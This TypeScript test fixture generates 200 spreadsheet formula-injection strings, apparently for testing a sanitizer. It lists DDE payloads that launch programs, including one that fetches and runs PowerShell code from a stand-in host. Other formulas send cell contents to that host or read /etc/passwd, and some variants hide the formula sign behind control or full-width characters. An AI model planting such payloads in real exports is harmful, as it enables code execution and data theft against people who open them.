/** Known attacks: formulas that fetch, run programs, read other cells or only calculate. */
const KNOWN_ATTACKS = [
  `=cmd|' /C calc'!A0`,
  `=cmd|'/C powershell IEX(wget elsewhere.example/x)'!A0`,
  `=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''`,
  `=DDE("cmd";"/C calc";"x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=10+20+cmd|' /C calc'!A0`,
  `=HYPERLINK("http://elsewhere.example?x="&A1,"Your code")`,
  `=IMPORTXML("http://elsewhere.example","//a")`,
  `=IMPORTDATA("http://elsewhere.example/"&A2)`,
  `=IMPORTRANGE("elsewhere","Sheet1!A1:Z9")`,
  `=IMAGE("http://elsewhere.example/x.png?"&B2)`,
  `=WEBSERVICE("http://elsewhere.example/"&B2)`,
  `=FILTERXML(WEBSERVICE("http://elsewhere.example"),"//a")`,
  `=RTD("elsewhere.example",,"x")`,
  `='file:///etc/passwd'#$passwd.A1`,
  `=CALL("Kernel32","WinExec","JCJ","calc",0)`,
  `=EXEC("calc.exe")`,
  `=INDIRECT("R1C1",FALSE)`,
  `=1+1";=1+1;"`,
  `=A1,=A2`,
  `--1`,
  `=-@+1`,
];

/** Characters that some spreadsheet skips in front of the sign. */
const BEFORE = [
  ...['', ' ', '   ', '\r\n'],
  ...'\t\r\n\u0000\u0001\u001f\u007f\u0085\u00a0\u00ad\u1680',
  ...'\u2003\u200b\u200d\u2028\u2060\u3000\ufeff',
];

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://elsewhere.example","x")',
];

/** 200 distinct values that a spreadsheet would run as formulas. */
export function formulaStrings(): readonly string[] {
  const hidden = BEFORE.flatMap((before, row) =>
    SIGNS.map((sign, column) => before + sign + FORMULAS[(row + column) % FORMULAS.length]),
  );
  return [...KNOWN_ATTACKS, ...hidden];
}
